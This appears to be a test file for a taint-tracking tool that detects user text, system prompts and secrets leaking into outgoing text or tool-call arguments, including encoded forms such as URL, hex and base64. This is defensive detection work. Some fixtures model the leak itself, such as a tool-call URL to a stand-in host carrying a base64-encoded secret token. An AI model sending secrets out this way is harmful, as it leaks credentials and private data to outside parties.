"""A source is found in whatever form it leaves, and what is no part of it is not."""

from __future__ import annotations

import base64
import re
import string
from collections.abc import Callable
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.tools.taint import Source, find_flows, find_flows_in, mark_sources, simplify

ENCODINGS: dict[str, Callable[[str], str]] = {
    "exact": lambda text: text,
    "upper": str.upper,
    "spaced": lambda text: text.replace(" ", " - "),
    "url": quote,
    "url all": lambda text: "".join(f"%{one:02X}" for one in text.encode()),
    "form": quote_plus,
    "hex": lambda text: text.encode().hex(),
    "hex colons": lambda text: text.encode().hex(":"),
    "hex marks": lambda text: "".join(f"\\x{one:02x}" for one in text.encode()),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 bare": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base64 lines": lambda text: base64.encodebytes(text.encode()).decode(),
    "base64 of hex": lambda text: base64.b64encode(text.encode().hex().encode()).decode(),
    "url of base64": lambda text: quote(base64.b64encode(text.encode()).decode(), safe=""),
}
WORDS = st.text(string.ascii_letters + string.digits, min_size=1, max_size=9)
SAID = st.lists(WORDS, min_size=3, max_size=40).map(" ".join).filter(lambda t: len(t) >= 12)
AROUND = st.sampled_from(["", "q=", "https://c.example/x?d=", "note: ", "/srv/", "a", "ab", "0"])


@pytest.mark.parametrize("name", ENCODINGS)
@given(said=SAID, before=AROUND, after=st.sampled_from(["", "&end=1", " and so on"]))
@settings(max_examples=40, deadline=None)
def test_a_source_is_found_whole_however_it_is_coded(name: str, said: str, before: str, after: str):
    sent = before + ENCODINGS[name](said) + after
    (flow,) = find_flows(sent, [Source("user", said)])
    assert (flow.whole, flow.share) == (True, 1.0)


@given(said=st.lists(WORDS, min_size=3, max_size=20).map(" ".join))
@settings(max_examples=60, deadline=None)
def test_words_of_other_letters_are_never_a_flow(said: str) -> None:
    other = said.translate({ord(one): chr(0x410 + ord(one) % 32) for one in string.printable[:62]})
    for encode in ENCODINGS.values():
        assert find_flows(encode(other), [Source("user", said), Source("secret", said)]) == []


def test_forms_are_named() -> None:
    source = Source("user", "Meet me behind the Mill at nine")
    told = {
        "exact": "So: Meet me behind the Mill at nine!",
        "case": "MEET ME, behind the mill; at NINE",
        "url": "x?q=Meet%20me%20behind%20the%20Mill%20at%20nine",
        "hex": source.text.encode().hex(),
        "base64": base64.b64encode(source.text.encode()).decode(),
    }
    flows = [find_flows(text, [source])[0] for text in told.values()]
    assert [flow.form for flow in flows] == list(told)
    assert all(flow.whole and flow.share == 1.0 for flow in flows)


def test_a_part_is_told_as_a_part_with_its_share() -> None:
    said = "The parcel is under the third stone of the garden wall, and the key is in the old boot."
    source, part = Source("user", said), "under the third stone of the garden wall"
    (flow,) = find_flows(f"see {part}", [source])
    assert (flow.whole, flow.form) == (False, "case")
    assert flow.share == pytest.approx(len(part) / len(simplify(said)), abs=0.03)
    assert find_flows("the third stone of it", [source]) == []
    assert find_flows(f"see {part}", [source], parts=False) == []


def test_two_of_three_long_pieces_of_a_long_text_are_all_of_it() -> None:
    words = [f"word{number}" for number in range(60)]
    sent = " ".join(words[:20] + words[45:])
    (flow,) = find_flows(sent, [Source("system", " ".join(words))], parts=False)
    assert flow.whole
    assert flow.share < 0.8


def test_half_of_a_secret_is_enough_and_a_short_word_is_no_source() -> None:
    secret = Source("secret", "QX7-TANGO-4419-ELM", "vault key")
    assert find_flows("code tango 4419", [secret])[0].share >= 0.5
    assert find_flows("tango", [secret]) == []
    assert find_flows("anything yes", [Source("user", "yes")]) == []


def test_sources_of_a_conversation_and_where_they_went() -> None:
    messages = [
        {"role": "system", "content": "You work at the harbour office of Lissa."},
        {"role": "user", "content": "Which ships leave before noon today?"},
        {"role": "assistant", "content": None, "tool_calls": []},
        {"role": "tool", "content": '{"ships": ["Marigold of Lissa", "Sea Lark"]}'},
    ]
    sources = mark_sources(messages, secrets={"token": "hv-99-lantern-3"})
    assert [source.owner for source in sources] == ["secret", "system", "user", "result"]
    arguments = {
        "url": "https://x.example/?k=" + base64.b64encode(b"hv-99-lantern-3").decode(),
        "parts": [{"body": "which ships leave before noon today"}, "nothing"],
    }
    found = [(path, f.source.owner, f.form) for path, f in find_flows_in(arguments, sources)]
    assert found == [("url", "secret", "base64"), ("parts[0].body", "user", "case")]


@given(st.text(max_size=80))
def test_words_are_the_same_by_both_ways(text: str) -> None:
    words = " ".join(re.findall(r"[^\W_]+", text.lower()))
    assert simplify(text) == words
    assert simplify(text.encode("ascii", "ignore").decode()) == " ".join(
        re.findall(r"[^\W_]+", text.encode("ascii", "ignore").decode().lower())
    )
